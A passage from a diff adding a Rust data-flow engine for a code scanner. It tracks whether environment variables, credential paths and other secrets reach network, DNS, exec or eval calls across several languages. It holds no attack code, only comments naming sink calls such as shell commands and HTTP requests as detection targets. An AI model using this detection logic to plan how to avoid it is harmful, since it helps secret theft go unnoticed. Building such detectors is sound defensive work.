@@ -1,0 +1,1627 @@
+//! Data flow inside one file: which values from source classes (the
+//! environment, credential paths, host identity, decoded blobs, response
+//! bodies…) reach calls of sink classes (network, DNS, exec, eval, file
+//! writes…). The classes are data (`rules/flow.toml`, [`FlowClasses`]);
+//! this module is the engine that follows values through a tree-sitter
+//! tree.
+//!
+//! # How values are followed
+//!
+//! A post-order walk gives every node the labels (a bit set of classes) of
+//! its value:
+//!
+//! - a node matching a source class carries that class;
+//! - an expression carries the labels of its parts: call arguments and
+//!   receivers, string building and formatting, object and array literals,
+//!   serialisers (`JSON.stringify(x)` carries `x`'s labels);
+//! - an identifier carries what was assigned to that name in the
+//!   enclosing scopes (assignments, destructuring, `for … in`, `with … as`,
+//!   parameters of local functions called with labelled arguments, and
+//!   parameters of callbacks given to a labelled receiver or a source call:
+//!   `fetch(u).then(r => …)`, `https.get(u, res => …)`);
+//! - a function's value is what it returns (implicitly the body in Ruby and
+//!   Rust); calling it by name carries that;
+//! - `self.x`/`this.x`/`@x` are shared by the file's functions;
+//! - a value assigned from a sink call (`cmd = Command::new("sh")`,
+//!   `req = https.request(…)`) forwards what later method calls on it are
+//!   given to that sink, as do chained calls (`Command::new("sh").arg(x)`).
+//!
+//! A sink call records the labels of its receiver and arguments. Walks
+//! repeat until no name gains a label (at most [`MAX_PASSES`]); a file
+//! with no source or no sink at all stops after the first.
+//!
+//! # Limits
+//!
+//! The engine is flow-insensitive and name-based: a name that holds a
+//! secret anywhere in a function holds it everywhere in it, and sanitising
+//! is not modelled. Both err toward reporting. Walks stop at a node budget
+//! and at the parse's deadline, and the file is then marked truncated.
+
+use std::collections::HashMap;
+use std::sync::LazyLock;
+use std::time::Instant;
+
+use paddock_proto::v1::Language;
+use regex::{Regex, RegexSet};
+use serde::Deserialize;
+use tree_sitter::Node;
+
+/// A set of class indices.
+pub type Labels = u64;
+
+/// Walks over one file, at most.
+pub const MAX_PASSES: usize = 4;
+/// Nodes visited over all walks of one file, at most.
+pub const MAX_NODES: usize = 4_000_000;
+
+/// Why the flow classes could not be loaded.
+#[derive(Debug, thiserror::Error)]
+pub enum FlowError {
+    #[error("{file}: not valid toml: {source}")]
+    Toml {
+        file: String,
+        source: toml::de::Error,
+    },
+    #[error("{file}: class `{class}`: {reason}")]
+    Class {
+        file: String,
+        class: String,
+        reason: String,
+    },
+}
+
+/// Whether a class labels values or records them.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum ClassKind {
+    Source,
+    Sink,
+}
+
+#[derive(Debug, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct FlowFile {
+    environment: Option<EnvSpec>,
+    #[serde(default, rename = "class")]
+    classes: Vec<ClassSpec>,
+}
+
+#[derive(Debug, Default, Clone, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct EnvSpec {
+    whole: Vec<String>,
+    single: Vec<String>,
+    accessors: Vec<String>,
+    dumps: Vec<String>,
+    secret_names: String,
+}
+
+#[derive(Debug, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct ClassSpec {
+    id: String,
+    kind: ClassKind,
+    description: String,
+    #[serde(default)]
+    calls: Vec<String>,
+    #[serde(default)]
+    members: Vec<String>,
+    #[serde(default)]
+    strings: Vec<String>,
+    #[serde(default)]
+    identifiers: Vec<String>,
+    #[serde(default)]
+    handle_methods: Vec<String>,
+}
+
+/// One class, as loaded.
+#[derive(Debug, Clone)]
+pub struct Class {
+    pub id: String,
+    pub kind: ClassKind,
+    pub description: String,
+    handle_methods: Vec<String>,
+}
+
+/// A callee pattern: `[lang:]callee[|regex over a literal argument]`.
+#[derive(Debug, Clone)]
+struct CallPattern {
+    class: usize,
+    lang: Option<&'static str>,
+    pattern: String,
+    /// `Some(None)`: the call has no arguments; `Some(Some(re))`: one of
+    /// its literal arguments matches.
+    arg: Option<Option<Regex>>,
+}
+
+/// The source and sink classes, compiled.
+#[derive(Debug, Clone)]
+pub struct FlowClasses {
+    classes: Vec<Class>,
+    calls: HashMap<String, Vec<CallPattern>>,
+    members: HashMap<String, Labels>,
+    identifiers: HashMap<String, Labels>,
+    strings: RegexSet,
+    string_class: Vec<usize>,
+    env_whole: Vec<String>,
+    env_single: Vec<String>,
+    env_accessors: Vec<CallPattern>,
+    env_dumps: Vec<CallPattern>,
+    secret_names: Regex,
+    pub env_var: usize,
+    pub env_secret: usize,
+    pub env_dump: usize,
+    handle: Option<usize>,
+}
+
+fn split_lang(p: &str) -> (Option<&'static str>, &str) {
+    for (prefix, lang) in [
+        ("js:", "js"),
+        ("py:", "py"),
+        ("rb:", "rb"),
+        ("php:", "php"),
+        ("rs:", "rs"),
+    ] {
+        if let Some(rest) = p.strip_prefix(prefix) {
+            return (Some(lang), rest);
+        }
+    }
+    (None, p)
+}
+
+fn call_pattern(class: usize, text: &str) -> Result<CallPattern, String> {
+    let (lang, rest) = split_lang(text.trim());
+    let (pattern, arg) = match rest.split_once('|') {
+        Some((p, re)) => (p, Some(re)),
+        None => match rest.strip_suffix("()") {
+            Some(p) => (p, Some("")),
+            None => (rest, None),
+        },
+    };
+    if pattern.is_empty() {
+        return Err(format!("call pattern `{text}` names no callee"));
+    }
+    let arg = match arg {
+        None => None,
+        Some("") => Some(None),
+        Some(re) => Some(Some(
+            Regex::new(re).map_err(|e| format!("call pattern `{text}`: {e}"))?,
+        )),
+    };
+    Ok(CallPattern {
+        class,
+        lang,
+        pattern: pattern.to_owned(),
+        arg,
+    })
+}
+
+/// The last `.`/`::`/`->` segment of a callee.
+pub fn last_segment(callee: &str) -> &str {
+    let cut = [".", "::", "->"]
+        .iter()
+        .filter_map(|s| callee.rfind(s).map(|i| i + s.len()))
+        .max()
+        .unwrap_or(0);
+    &callee[cut..]
+}
+
+/// A qualified pattern matches the callee or its suffix at a segment
+/// boundary; a short bare one (`eval`) only a bare call; a bare one of 8
+/// or more characters also a method of that name.
+pub fn callee_matches(callee: &str, pattern: &str) -> bool {
+    let callee = callee.trim_start_matches("new ").trim();
+    if callee == pattern {
+        return true;
+    }
+    if !pattern.contains(['.', ':']) && pattern.len() < 8 {
+        return false;
+    }
+    match callee.strip_suffix(pattern) {
+        Some(head) => head.ends_with('.') || head.ends_with("::") || head.ends_with("->"),
+        None => false,
+    }
+}
+
+impl FlowClasses {
+    /// Loads classes from TOML files (`(name, text)`), merged in order;
+    /// the `[environment]` table of the last file that has one is used.
+    pub fn load(files: &[(String, String)]) -> Result<Self, FlowError> {
+        let mut env: Option<EnvSpec> = None;
+        let mut specs: Vec<(String, ClassSpec)> = Vec::new();
+        for (name, text) in files {
+            let file: FlowFile = toml::from_str(text).map_err(|source| FlowError::Toml {
+                file: name.clone(),
+                source,
+            })?;
+            if file.environment.is_some() {
+                env = file.environment;
+            }
+            for c in file.classes {
+                specs.push((name.clone(), c));
+            }
+        }
+        let env = env.unwrap_or_default();
+        let mut classes: Vec<Class> = Vec::new();
+        let mut calls: HashMap<String, Vec<CallPattern>> = HashMap::new();
+        let mut members: HashMap<String, Labels> = HashMap::new();
+        let mut identifiers: HashMap<String, Labels> = HashMap::new();
+        let mut string_patterns = Vec::new();
+        let mut string_class = Vec::new();
+        let builtin = ["env-var", "env-secret", "env-dump"];
+        for id in builtin {
+            classes.push(Class {
+                id: id.into(),
+                kind: ClassKind::Source,
+                description: match id {
+                    "env-var" => "one environment variable".into(),
+                    "env-secret" => {
+                        "an environment variable whose name says it holds a secret".into()
+                    }
+                    _ => "the whole environment".into(),
+                },
+                handle_methods: Vec::new(),
+            });
+        }
+        for (file, c) in specs {
+            let err = |reason: String| FlowError::Class {
+                file: file.clone(),
+                class: c.id.clone(),
+                reason,
+            };
+            if c.id.trim().is_empty() {
+                return Err(err("id is empty".into()));
+            }
+            if classes.iter().any(|k| k.id == c.id) {
+                return Err(err("defined twice".into()));
+            }
+            if classes.len() >= 64 {
+                return Err(err(
+                    "at most 64 classes (61 besides the environment's)".into()
+                ));
+            }
+            let i = classes.len();
+            for p in &c.calls {
+                let cp = call_pattern(i, p).map_err(&err)?;
+                calls
+                    .entry(last_segment(&cp.pattern).to_owned())
+                    .or_default()
+                    .push(cp);
+            }
+            for m in &c.members {
+                *members.entry(m.clone()).or_default() |= 1 << i;
+            }
+            for id in &c.identifiers {
+                *identifiers.entry(id.clone()).or_default() |= 1 << i;
+            }
+            for s in &c.strings {
+                Regex::new(s).map_err(|e| err(format!("string pattern `{s}`: {e}")))?;
+                string_patterns.push(s.clone());
+                string_class.push(i);
+            }
+            if !c.handle_methods.is_empty() && c.kind != ClassKind::Sink {
+                return Err(err("handle_methods belong to sink classes".into()));
+            }
+            classes.push(Class {
+                id: c.id,
+                kind: c.kind,
+                description: c.description,
+                handle_methods: c.handle_methods,
+            });
+        }
+        let env_file = || "[environment]".to_owned();
+        let patterns = |list: &[String], class: usize| {
+            list.iter()
+                .map(|p| call_pattern(class, p))
+                .collect::<Result<Vec<_>, _>>()
+                .map_err(|reason| FlowError::Class {
+                    file: env_file(),
+                    class: "environment".into(),
+                    reason,
+                })
+        };
+        let strings = RegexSet::new(&string_patterns).map_err(|e| FlowError::Class {
+            file: "flow".into(),
+            class: "strings".into(),
+            reason: e.to_string(),
+        })?;
+        let secret_names = Regex::new(if env.secret_names.is_empty() {
+            "$^"
+        } else {
+            &env.secret_names
+        })
+        .map_err(|e| FlowError::Class {
+            file: env_file(),
+            class: "environment".into(),
+            reason: format!("secret_names: {e}"),
+        })?;
+        let handle = classes.iter().position(|c| c.id == "handle");
+        Ok(Self {
+            env_accessors: patterns(&env.accessors, 0)?,
+            env_dumps: patterns(&env.dumps, 2)?,
+            env_whole: env.whole,
+            env_single: env.single,
+            secret_names,
+            classes,
+            calls,
+            members,
+            identifiers,
+            strings,
+            string_class,
+            env_var: 0,
+            env_secret: 1,
+            env_dump: 2,
+            handle,
+        })
+    }
+
+    pub fn classes(&self) -> &[Class] {
+        &self.classes
+    }
+
+    /// The index of a class by id.
+    pub fn index(&self, id: &str) -> Option<usize> {
+        self.classes.iter().position(|c| c.id == id)
+    }
+
+    /// The labels of classes named in `ids`, or the first unknown id.
+    pub fn labels(&self, ids: &[String]) -> Result<Labels, String> {
+        let mut out = 0;
+        for id in ids {
+            out |= 1 << self.index(id).ok_or_else(|| id.clone())?;
+        }
+        Ok(out)
+    }
+
+    /// Class ids in a label set.
+    pub fn names(&self, labels: Labels) -> Vec<&str> {
+        (0..self.classes.len())
+            .filter(|i| labels & (1 << i) != 0)
+            .map(|i| self.classes[i].id.as_str())
+            .collect()
+    }
+
+    /// Labels of a string literal's value.
+    pub fn string_labels(&self, value: &str) -> Labels {
+        let value = bounded(value, 4096);
+        let mut out = 0;
+        for i in self.strings.matches(value).iter() {
+            out |= 1 << self.string_class[i];
+        }
+        out
+    }
+
+    fn pattern_holds(&self, p: &CallPattern, lang: &str, callee: &str, args: &CallArgs) -> bool {
+        if p.lang.is_some_and(|l| l != lang) || !callee_matches(callee, &p.pattern) {
+            return false;
+        }
+        match &p.arg {
+            None => true,
+            Some(None) => args.count == 0,
+            Some(Some(re)) => args.literals.iter().any(|l| re.is_match(l)),
+        }
+    }
+
+    /// Source and sink classes a call matches.
+    fn call_classes(&self, lang: &str, callee: &str, args: &CallArgs) -> Labels {
+        let callee = callee.trim_start_matches("new ").trim();
+        let Some(candidates) = self.calls.get(last_segment(callee)) else {
+            return 0;
+        };
+        let mut out = 0;
+        for p in candidates {
+            if self.pattern_holds(p, lang, callee, args) {
+                out |= 1 << p.class;
+            }
+        }
+        out
+    }
+}
+
+fn bounded(s: &str, n: usize) -> &str {
+    if s.len() <= n {
+        return s;
+    }
+    let mut end = n;
+    while !s.is_char_boundary(end) {
+        end -= 1;
+    }
+    &s[..end]
+}
+
+/// Where something is in a file.
+#[derive(Debug, Clone, PartialEq, Eq, Default)]
+pub struct Site {
+    pub line: u32,
+    pub snippet: String,
+}
+
+/// A sink call and the labels that reached it.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct SinkHit {
+    pub class: usize,
+    pub labels: Labels,
+    pub site: Site,
+}
+
+/// What the flow walk found in one file.
+#[derive(Debug, Clone, Default)]
+pub struct FlowFacts {
+    /// The first site of every class that occurs, by class index.
+    pub present: HashMap<usize, Site>,
+    pub sinks: Vec<SinkHit>,
+    /// The walk stopped at its budget.
+    pub truncated: bool,
+}
+
+impl FlowFacts {
+    /// The first sink of one of `to` reached by a label in `from` that
+    /// also carries every label in `with`.
+    pub fn find(&self, from: Labels, to: Labels, with: Labels) -> Option<&SinkHit> {
+        self.sinks
+            .iter()
+            .find(|h| to & (1 << h.class) != 0 && h.labels & from != 0 && h.labels & with == with)
+    }
+}
+
+/// Node kinds of one grammar that the flow walk needs.
+struct Spec {
+    lang: &'static str,
+    /// (kind, callee field, arguments field)
+    calls: &'static [(&'static str, &'static str, &'static str)],
+    /// Member and subscript access: (kind, object field).
+    members: &'static [(&'static str, &'static str)],
+    /// (kind, target field, value field); an empty value field: the first
+    /// named child that is not the target.
+    assigns: &'static [(&'static str, &'static str, &'static str)],
+    functions: &'static [&'static str],
+    returns: &'static [&'static str],
+    /// The body is the return value.
+    implicit_return: bool,
+    identifiers: &'static [&'static str],
+    /// Literals whose children are not visited.
+    opaque_strings: &'static [&'static str],
+    /// Literals whose interpolations are visited.
+    strings: &'static [&'static str],
+    /// Backticks and the like: commands run by the shell.
+    shell: &'static [&'static str],
+    skip: &'static [&'static str],
+}
+
+const JS: Spec = Spec {
+    lang: "js",
+    calls: &[
+        ("call_expression", "function", "arguments"),
+        ("new_expression", "constructor", "arguments"),
+    ],
+    members: &[
+        ("member_expression", "object"),
+        ("subscript_expression", "object"),
+    ],
+    assigns: &[
+        ("variable_declarator", "name", "value"),
+        ("assignment_expression", "left", "right"),
+        ("augmented_assignment_expression", "left", "right"),
+        ("for_in_statement", "left", "right"),
+    ],
+    functions: &[
+        "function_declaration",
+        "function_expression",
+        "function",
+        "arrow_function",
+        "method_definition",
+        "generator_function_declaration",
+        "generator_function",
+    ],
+    returns: &["return_statement"],
+    implicit_return: false,
+    identifiers: &["identifier", "shorthand_property_identifier"],
+    opaque_strings: &["string", "regex"],
+    strings: &["template_string"],
+    shell: &[],
+    skip: &["comment"],
+};
+
+const PYTHON: Spec = Spec {
+    lang: "py",
+    calls: &[("call", "function", "arguments")],
+    members: &[("attribute", "object"), ("subscript", "value")],
+    assigns: &[
+        ("assignment", "left", "right"),
+        ("augmented_assignment", "left", "right"),
+        ("named_expression", "name", "value"),
+        ("for_statement", "left", "right"),
+        ("for_in_clause", "left", "right"),
+        ("as_pattern", "alias", ""),
+    ],
+    functions: &["function_definition", "lambda"],
+    returns: &["return_statement"],
+    implicit_return: false,
+    identifiers: &["identifier"],
+    opaque_strings: &[],
+    strings: &["string", "concatenated_string"],
+    shell: &[],
+    skip: &["comment"],
+};
+
+const RUBY: Spec = Spec {
+    lang: "rb",
+    calls: &[("call", "method", "arguments")],
+    members: &[("element_reference", "object")],
+    assigns: &[
+        ("assignment", "left", "right"),
+        ("operator_assignment", "left", "right"),
+    ],
+    functions: &["method", "singleton_method", "block", "do_block", "lambda"],
+    returns: &["return"],
+    implicit_return: true,
+    identifiers: &[
+        "identifier",
+        "constant",
+        "instance_variable",
+        "global_variable",
+    ],
+    opaque_strings: &[],
+    strings: &["string", "heredoc_body"],
+    shell: &["subshell"],
+    skip: &["comment"],
+};
+
+const PHP: Spec = Spec {
+    lang: "php",
+    calls: &[
+        ("function_call_expression", "function", "arguments"),
+        ("member_call_expression", "name", "arguments"),
+        ("scoped_call_expression", "name", "arguments"),
+        ("object_creation_expression", "", "arguments"),
+    ],
+    members: &[
+        ("subscript_expression", ""),
+        ("member_access_expression", "object"),
+    ],
+    assigns: &[
+        ("assignment_expression", "left", "right"),
+        ("augmented_assignment_expression", "left", "right"),
+    ],
+    functions: &[
+        "function_definition",
+        "method_declaration",
+        "anonymous_function",
+        "anonymous_function_creation_expression",
+        "arrow_function",
+    ],
+    returns: &["return_statement"],
+    implicit_return: false,
+    identifiers: &["variable_name"],
+    opaque_strings: &["string"],
+    strings: &["encapsed_string", "heredoc"],
+    shell: &["shell_command_expression"],
+    skip: &["comment"],
+};
+
+const RUST: Spec = Spec {
+    lang: "rs",
+    calls: &[
+        ("call_expression", "function", "arguments"),
+        ("macro_invocation", "macro", ""),
+    ],
+    members: &[("field_expression", "value")],
+    assigns: &[
+        ("let_declaration", "pattern", "value"),
+        ("assignment_expression", "left", "right"),
+        ("compound_assignment_expr", "left", "right"),
+    ],
+    functions: &["function_item", "closure_expression"],
+    returns: &["return_expression"],
+    implicit_return: true,
+    identifiers: &["identifier"],
+    opaque_strings: &["string_literal", "raw_string_literal"],
+    strings: &[],
+    shell: &[],
+    skip: &["line_comment", "block_comment"],
+};
+
+fn spec(lang: Language) -> Option<&'static Spec> {
+    match lang {
+        Language::Javascript | Language::Typescript => Some(&JS),
+        Language::Python => Some(&PYTHON),
+        Language::Ruby => Some(&RUBY),
+        Language::Php => Some(&PHP),
+        Language::Rust => Some(&RUST),
+        Language::Unspecified => None,
+    }
+}
+
+/// A call's literal arguments, for conditional patterns.
+#[derive(Debug, Default)]
+struct CallArgs {
+    count: usize,
+    literals: Vec<String>,
+}
+
+/// Identifier fields that name something rather than read a value.
+const NAMING_FIELDS: &[&str] = &[
+    "name",
+    "attribute",
+    "property",
+    "key",
+    "method",
+    "field",
+    "label",
+    "macro",
+    "type",
+];
+
+#[derive(Default)]
+struct State {
+    env: HashMap<(u32, String), Labels>,
+    /// Function name → (scope, parameter names).
+    functions: HashMap<String, (u32, Vec<String>)>,
+    /// Function name → what it returns.
+    returns: HashMap<String, Labels>,
+    /// Names bound to a sink call, and which hit.
+    sink_handles: HashMap<(u32, String), usize>,
+    /// Function nodes (by tree node id) → their scope.
+    fn_scopes: HashMap<usize, u32>,
+    /// Every (scope, name) an assignment bound, labelled or not: an
+    /// assignment in a nested function to a name an enclosing scope
+    /// bound updates that binding too (`let b = ''; res.on('data', d => b += d)`).
+    bound: std::collections::HashSet<(u32, String)>,
+    /// Local names of modules and their members (`cp` for
+    /// `child_process`, `system` for `os.system`).
+    aliases: HashMap<String, String>,
+    changed: bool,
+}
+
+static REQUIRE_CALL: LazyLock<regex::Regex> = LazyLock::new(|| {
+    regex::Regex::new(r#"(?:\brequire|\b__import__|\bimportlib\.import_module)\(\s*['"](?:node:)?([\w./@-]+)['"]\s*\)"#)
+        .expect("valid")
+});
+
+/// Module aliases read off a file's imports, cheaply, by pattern:
+/// `const cp = require('child_process')`, `const { exec } = require(…)`,
+/// `import * as cp from '…'`, `import { exec as run } from '…'`,
+/// `import subprocess as sp`, `from os import system as run`.
+fn module_aliases(lang: Language, source: &[u8]) -> HashMap<String, String> {
+    static JS: LazyLock<[regex::Regex; 3]> = LazyLock::new(|| {
+        [
+            regex::Regex::new(r#"(?:const|let|var)\s+([A-Za-z_$][\w$]*)\s*=\s*require\(\s*['"](?:node:)?([\w./@-]+)['"]\s*\)"#).expect("valid"),
+            regex::Regex::new(r#"(?:const|let|var)\s*\{([^}]{1,400})\}\s*=\s*require\(\s*['"](?:node:)?([\w./@-]+)['"]\s*\)"#).expect("valid"),
+            regex::Regex::new(r#"import\s+(?:\*\s+as\s+([A-Za-z_$][\w$]*)|([A-Za-z_$][\w$]*)|\{([^}]{1,400})\})\s+from\s+['"](?:node:)?([\w./@-]+)['"]"#).expect("valid"),
+        ]
+    });
+    static PY: LazyLock<[regex::Regex; 2]> = LazyLock::new(|| {
+        [
+            regex::Regex::new(r"(?m)^\s*import\s+([\w.]+)\s+as\s+(\w+)").expect("valid"),
+            regex::Regex::new(r"(?m)^\s*from\s+([\w.]+)\s+import\s+\(?([\w ,\n]+?)\)?\s*$")
+                .expect("valid"),
+        ]
+    });
+    let mut out = HashMap::new();
+    let Ok(text) = std::str::from_utf8(&source[..source.len().min(1 << 20)]) else {
+        return out;
+    };
+    let members = |list: &str, module: &str, out: &mut HashMap<String, String>, sep: &str| {
+        for item in list.split(',').take(64) {
+            let item = item.trim();
+            let (name, local) = match item.split_once(sep) {
+                Some((n, l)) => (n.trim(), l.trim()),
+                None => (item, item),
+            };
+            if !name.is_empty()
+                && !local.is_empty()
+                && local
+                    .chars()
+                    .all(|c| c.is_alphanumeric() || c == '_' || c == '$')
+            {
+                out.insert(local.to_owned(), format!("{module}.{name}"));
+            }
+        }
+    };
+    match lang {
+        Language::Javascript | Language::Typescript => {
+            for c in JS[0].captures_iter(text).take(256) {
+                out.insert(c[1].to_owned(), c[2].to_owned());
+            }
+            for c in JS[1].captures_iter(text).take(256) {
+                members(&c[1], &c[2], &mut out, ":");
+            }
+            for c in JS[2].captures_iter(text).take(256) {
+                let module = &c[4];
+                if let Some(n) = c.get(1).or(c.get(2)) {
+                    out.insert(n.as_str().to_owned(), module.to_owned());
+                }
+                if let Some(list) = c.get(3) {
+                    members(list.as_str(), module, &mut out, " as ");
+                }
+            }
+        }
+        Language::Python => {
+            for c in PY[0].captures_iter(text).take(256) {
+                out.insert(c[2].to_owned(), c[1].to_owned());
+            }
+            for c in PY[1].captures_iter(text).take(256) {
+                members(&c[2].replace('\n', " "), &c[1], &mut out, " as ");
+            }
+        }
+        _ => {}
+    }
+    out.retain(|local, module| local != module);
+    out
+}
+
+/// The callee as the module it names: `require('https').get` →
+/// `https.get`, `cp.exec` → `child_process.exec` (with `cp` an alias).
+fn resolve_callee(callee: &str, aliases: &HashMap<String, String>) -> String {
+    let callee = REQUIRE_CALL.replace(callee, "$1");
+    let (head, rest) = match callee.find(['.', '(']) {
+        Some(i) => (&callee[..i], &callee[i..]),
+        None => (&callee[..], ""),
+    };
+    match aliases.get(head) {
+        Some(module) => format!("{module}{rest}"),
+        None => callee.into_owned(),
+    }
+}
+
+impl State {
+    fn add(&mut self, key: (u32, String), labels: Labels) {
+        if labels == 0 {
+            return;
+        }
+        let e = self.env.entry(key).or_default();
+        if *e | labels != *e {
+            *e |= labels;
+            self.changed = true;
+        }
+    }
+}
+
+struct Frame<'t> {
+    node: Node<'t>,
+    field: Option<&'static str>,
+    acc: Labels,
+    /// (field, labels, node, scope of a function child, sink hit below)
+    children: Vec<Child<'t>>,
+    keep_children: bool,
+    /// A function frame: its scope.
+    scope: Option<u32>,
+    /// A sink hit whose call chain this node continues.
+    chain: Option<usize>,
+}
+
+#[derive(Clone, Copy)]
+struct Child<'t> {
+    field: Option<&'static str>,
+    labels: Labels,
+    node: Node<'t>,
+    chain: Option<usize>,
+}
+
+/// Follows values through the tree of one file.
+pub fn analyze(
+    classes: &FlowClasses,
+    lang: Language,
+    root: Node<'_>,
+    source: &[u8],
+    deadline: Instant,
+) -> FlowFacts {
+    let Some(spec) = spec(lang) else {
+        return FlowFacts::default();
+    };
+    let mut state = State {
+        aliases: module_aliases(lang, source),
+        ..State::default()
+    };
+    let mut facts = FlowFacts::default();
+    let mut budget = MAX_NODES;
+    for pass in 0..MAX_PASSES {
+        state.changed = false;
+        let mut out = FlowFacts::default();
+        let complete = walk(
+            classes,
+            spec,
+            root,
+            source,
+            &mut state,
+            &mut out,
+            &mut budget,
+            deadline,
+        );
+        let sources = out
+            .present
+            .keys()
+            .any(|c| classes.classes[*c].kind == ClassKind::Source);
+        facts = out;
+        if !complete {
+            facts.truncated = true;
+            break;
+        }
+        // No source or no sink: nothing can flow.
+        if pass == 0 && (!sources || facts.sinks.is_empty()) {
+            break;
+        }
+        if !state.changed {
+            break;
+        }
+    }
+    facts
+}
+
+#[allow(clippy::too_many_arguments)]
+fn walk<'t>(
+    classes: &FlowClasses,
+    spec: &Spec,
+    root: Node<'t>,
+    source: &[u8],
+    state: &mut State,
+    out: &mut FlowFacts,
+    budget: &mut usize,
+    deadline: Instant,
+) -> bool {
+    let text = |n: Node<'_>| String::from_utf8_lossy(&source[n.byte_range()]).into_owned();
+    let mut cursor = root.walk();
+    let mut scopes: Vec<u32> = vec![0];
+    let mut fn_names: Vec<(Option<String>, Labels)> = vec![(None, 0)];
+    let mut next_scope = 1u32;
+    let mut stack: Vec<Frame<'t>> = vec![new_frame(
+        spec,
+        root,
+        None,
+        &mut scopes,
+        &mut fn_names,
+        &mut next_scope,
+        source,
+        state,
+    )];
+    let mut visited = 0usize;
+    loop {
+        visited += 1;
+        if *budget == 0 {
+            return false;
+        }
+        *budget -= 1;
+        if visited.is_multiple_of(4096) && Instant::now() > deadline {
+            return false;
+        }
+        let node = cursor.node();
+        let kind = node.kind();
+        let descend = !spec.opaque_strings.contains(&kind) && !spec.skip.contains(&kind);
+        if descend && cursor.goto_first_child() {
+            let child = cursor.node();
+            let field = cursor.field_name();
+            stack.push(new_frame(
+                spec,
+                child,
+                field,
+                &mut scopes,
+                &mut fn_names,
+                &mut next_scope,
+                source,
+                state,
+            ));
+            continue;
+        }
+        loop {
+            let frame = stack.pop().expect("a frame per open node");
+            let child = finish(
+                classes,
+                spec,
+                frame,
+                &text,
+                state,
+                out,
+                &mut scopes,
+                &mut fn_names,
+            );
+            match stack.last_mut() {
+                Some(parent) => {
+                    parent.acc |= child.labels;
+                    if parent.keep_children {
+                        parent.children.push(child);
+                    } else if child.chain.is_some() && parent.chain.is_none() {
+                        parent.chain = child.chain;
+                    }
+                }
+                None => return true,
+            }
+            if cursor.goto_next_sibling() {
+                let next = cursor.node();
+                let field = cursor.field_name();
+                stack.push(new_frame(
+                    spec,
+                    next,
+                    field,
+                    &mut scopes,
+                    &mut fn_names,
+                    &mut next_scope,
+                    source,
+                    state,
+                ));
+                break;
+            }
+            if !cursor.goto_parent() {
+                // The root's frame is finished by the pop above on the
+                // next round; reaching here means the stack had it.
+                while let Some(frame) = stack.pop() {
+                    finish(
+                        classes,
+                        spec,
+                        frame,
+                        &text,
+                        state,
+                        out,
+                        &mut scopes,
+                        &mut fn_names,
+                    );
+                }
+                return true;
+            }
+        }
+    }
+}
+
+#[allow(clippy::too_many_arguments)]
+fn new_frame<'t>(
+    spec: &Spec,
+    node: Node<'t>,
+    field: Option<&'static str>,
+    scopes: &mut Vec<u32>,
+    fn_names: &mut Vec<(Option<String>, Labels)>,
+    next_scope: &mut u32,
+    source: &[u8],
+    state: &mut State,
+) -> Frame<'t> {
+    let kind = node.kind();
+    let is_fn = spec.functions.contains(&kind);
+    let keep = is_fn
+        || spec.calls.iter().any(|(k, _, _)| *k == kind)
+        || spec.assigns.iter().any(|(k, _, _)| *k == kind)
+        || spec.members.iter().any(|(k, _)| *k == kind)
+        || spec.shell.contains(&kind);
+    let mut scope = None;
+    if is_fn {
+        let id = *next_scope;
+        *next_scope += 1;
+        let name = node
+            .child_by_field_name("name")
+            .map(|n| String::from_utf8_lossy(&source[n.byte_range()]).into_owned());
+        let params = node
+            .child_by_field_name("parameters")
+            .or_else(|| node.child_by_field_name("parameter"))
+            .map(|p| identifiers_in(spec, p, source))
+            .unwrap_or_default();
+        if let Some(n) = &name {
+            state.functions.entry(n.clone()).or_insert((id, params));
+        }
+        state.fn_scopes.insert(node.id(), id);
+        scopes.push(id);
+        fn_names.push((name, 0));
+        scope = Some(id);
+    }
+    Frame {
+        node,
+        field,
+        acc: 0,
+        children: Vec::new(),
+        keep_children: keep,
+        scope,
+        chain: None,
+    }
+}
+
+/// Identifier names under `node` (bounded), for targets and parameters.
+fn identifiers_in(spec: &Spec, node: Node<'_>, source: &[u8]) -> Vec<String> {
+    let mut out = Vec::new();
+    let mut cursor = node.walk();
+    let mut seen = 0;
+    loop {
+        let n = cursor.node();
+        seen += 1;
+        if spec.identifiers.contains(&n.kind())
+            || matches!(n.kind(), "shorthand_property_identifier_pattern")
+        {
+            let name = String::from_utf8_lossy(&source[n.byte_range()]).into_owned();
+            if !out.contains(&name) {
+                out.push(name);
+            }
+        }
+        if seen > 256 || out.len() > 32 {
+            return out;
+        }
+        if cursor.goto_first_child() {
+            continue;
+        }
+        loop {
+            if cursor.node() == node {
+                return out;
+            }
+            if cursor.goto_next_sibling() {
+                break;
+            }
+            if !cursor.goto_parent() || cursor.node() == node {
+                return out;
+            }
+        }
+    }
+}
+
+fn lookup(state: &State, scopes: &[u32], name: &str) -> Labels {
+    let mut out = 0;
+    for s in scopes {
+        if let Some(l) = state.env.get(&(*s, name.to_owned())) {
+            out |= l;
+        }
+    }
+    out
+}
+
+fn is_shared_member(text: &str) -> bool {
+    text.starts_with("self.") || text.starts_with("this.") || text.starts_with("$this->")
+}
+
+#[allow(clippy::too_many_arguments)]
+fn finish<'t>(
+    classes: &FlowClasses,
+    spec: &Spec,
+    frame: Frame<'t>,
+    text: &dyn Fn(Node<'_>) -> String,
+    state: &mut State,
+    out: &mut FlowFacts,
+    scopes: &mut Vec<u32>,
+    fn_names: &mut Vec<(Option<String>, Labels)>,
+) -> Child<'t> {
+    let node = frame.node;
+    let kind = node.kind();
+    let mut labels = frame.acc;
+    let mut chain = frame.chain;
+    let site = |node: Node<'_>| Site {
+        line: node.start_position().row as u32 + 1,
+        snippet: text(node)
+            .split_whitespace()
+            .collect::<Vec<_>>()
+            .join(" ")
+            .chars()
+            .take(160)
+            .collect(),
+    };
+    let note = |out: &mut FlowFacts, found: Labels, node: Node<'_>| {
+        if found == 0 {
+            return;
+        }
+        for i in 0..classes.classes.len() {
+            if found & (1 << i) != 0 && !out.present.contains_key(&i) {
+                out.present.insert(i, site(node));
+            }
+        }
+    };
+    let child_of = |field: &str| -> Option<&Child<'t>> {
+        if field.is_empty() {
+            return None;
+        }
+        frame.children.iter().find(|c| c.field == Some(field))
+    };
+
+    if spec.identifiers.contains(&kind) {
+        let name = text(node);
+        if !frame.field.is_some_and(|f| NAMING_FIELDS.contains(&f)) || kind == "instance_variable" {
+            if kind == "instance_variable" || kind == "global_variable" {
